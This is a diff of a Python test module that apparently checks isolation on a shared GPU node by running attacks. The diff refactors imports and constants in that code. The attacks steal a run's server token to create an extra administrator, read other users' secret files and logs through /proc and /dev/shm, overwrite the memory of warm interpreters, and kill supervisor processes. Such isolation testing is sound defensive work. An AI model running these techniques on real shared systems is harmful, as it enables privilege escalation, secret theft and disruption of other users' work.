@@ -1,8 +1,8 @@
 """Attacks of a member of the team on the node and on other users: the list in "Why" of issue 27.
 
-The functions travel with their code, because a sandbox shows no directory of these tests. They import what they use,
-and need nothing of this package. They therefore also run with earlier versions of serverless-gpu. Their outcomes at
-6f51c1b, the last version before any isolation, through a server whose runs share a uid:
+The functions travel with their code, because a sandbox shows no directory of these tests. They need nothing of this
+package, so they also run with earlier versions of serverless-gpu. Their outcomes at 6f51c1b, through a server whose
+runs share a uid:
 
     administrator-token    succeeded: the token of the member's run made a second administrator
     other-secret           succeeded: the file in /dev/shm was readable
@@ -14,14 +14,17 @@ and need nothing of this package. They therefore also run with earlier versions 
 
 from __future__ import annotations
 
-ADMINISTRATOR, SECRET, LOG, TOKEN, ZYGOTE, SUPERVISOR = (
-    "administrator-token",
-    "other-secret",
-    "other-log",
-    "attempt-token",
-    "patch-zygote",
-    "end-supervisor",
-)
+import glob
+import json
+import os
+import re
+import signal
+import sys
+import time
+from urllib.request import Request, urlopen
+
+ADMINISTRATOR, SECRET, LOG = "administrator-token", "other-secret", "other-log"
+TOKEN, ZYGOTE, SUPERVISOR = "attempt-token", "patch-zygote", "end-supervisor"
 ATTACKS = (ADMINISTRATOR, SECRET, LOG, TOKEN, ZYGOTE, SUPERVISOR)
 """Names of the attacks, as in the catalogue of `sgpu node canary`."""
 OUTPUT, VALUE, PATCH = "output of the victim", "hunter2-hunter2", "PATCHED"
@@ -30,10 +33,7 @@ SUCCEEDED = "succeeded"
 
 def be_victim(waits: bool = True) -> str:
     """Print a line and wait, with a secret. Return the start of `sys.copyright` of this interpreter."""
-    import sys
-    import time
-
-    print("output of the victim", flush=True)
+    print(OUTPUT, flush=True)
     if waits:
         time.sleep(100)
     return sys.copyright[:7]
@@ -42,14 +42,9 @@ def be_victim(waits: bool = True) -> str:
 def attack(home: str, new_administrator: str) -> dict[str, str]:
     """Try the attacks on a node with a home. Return ``succeeded`` or the reason of the failure, by attack.
 
-    Each attack uses what it reads: the token makes a second administrator, and the memory of each warm interpreter is
-    changed. Only the attack on the own supervisor is a function of its own.
+    The administrator's token makes a second administrator. The memory of each warm interpreter that this process can
+    open is changed, also of the attacker's own. The next runs of the victim show if theirs was among them.
     """
-    import glob
-    import json
-    import re
-    import sys
-    import urllib.request
 
     def contents(*patterns: str) -> list[bytes]:
         found: list[bytes] = []
@@ -70,18 +65,17 @@ def attack(home: str, new_administrator: str) -> dict[str, str]:
         token = contents(f"{home}/server/token")[0].decode().strip()
         body = json.dumps({"name": new_administrator, "role": "admin"}).encode()
         headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
-        urllib.request.urlopen(
-            urllib.request.Request(f"{profile['url']}/api/v1/users", body, headers), timeout=10
-        ).close()
+        request = Request(f"{profile['url']}/api/v1/users", body, headers)
+        urlopen(request, timeout=10).close()
 
     def read_secret() -> None:
         places = (f"{home}/runs/*/*/secrets/*", "/proc/[0-9]*/root/run/sgpu/secrets/*")
         found = contents("/dev/shm/sgpu-secrets-*/*", *places)
-        if not any(b"hunter2-hunter2" in each for each in found):
+        if not any(VALUE.encode() in each for each in found):
             raise LookupError("no file has the value")
 
     def read_log() -> None:
-        if not any(b"output of the victim" in each for each in contents(f"{home}/runs/*/*/logs/*")):
+        if not any(OUTPUT.encode() in each for each in contents(f"{home}/runs/*/*/logs/*")):
             raise LookupError("no file has the output")
 
     def read_token() -> None:
@@ -107,10 +101,11 @@ def attack(home: str, new_administrator: str) -> dict[str, str]:
                     continue
                 for match in re.finditer(re.escape(text), part):
                     memory.seek(first + match.start())
-                    memory.write(b"PATCHED")
+                    memory.write(PATCH.encode())
 
     def patch_zygotes() -> None:
-        patched, last = 0, ProcessLookupError("no warm interpreter is visible")
+        patched = 0
+        last: OSError = ProcessLookupError("no warm interpreter is visible")
         for path in glob.glob("/proc/[0-9]*/comm"):
             pid = path.split("/")[2]
             try:
@@ -126,28 +121,23 @@ def attack(home: str, new_administrator: str) -> dict[str, str]:
 
     outcomes: dict[str, str] = {}
     for name, attempt in (
-        ("administrator-token", make_administrator),
-        ("other-secret", read_secret),
-        ("other-log", read_log),
-        ("attempt-token", read_token),
-        ("patch-zygote", patch_zygotes),
+        (ADMINISTRATOR, make_administrator),
+        (SECRET, read_secret),
+        (LOG, read_log),
+        (TOKEN, read_token),
+        (ZYGOTE, patch_zygotes),
     ):
         try:
             attempt()
         except Exception as error:  # noqa: BLE001 - a refusal has many kinds
             outcomes[name] = f"{type(error).__name__}: {error}"
         else:
-            outcomes[name] = "succeeded"
+            outcomes[name] = SUCCEEDED
     return outcomes
 
 
 def end_supervisor() -> str:
     """Kill each supervisor of the node that this process can find, also the own one. Return why that failed."""
-    import glob
-    import os
-    import signal
-    import time
-
     killed, problem = 0, "no supervisor is visible"
     for path in glob.glob("/proc/[0-9]*/comm"):
         try:
@@ -161,4 +151,4 @@ def end_supervisor() -> str:
     if not killed:
         return problem
     time.sleep(30)  # The supervisor's end ends this run first.
-    return "succeeded"
+    return SUCCEEDED
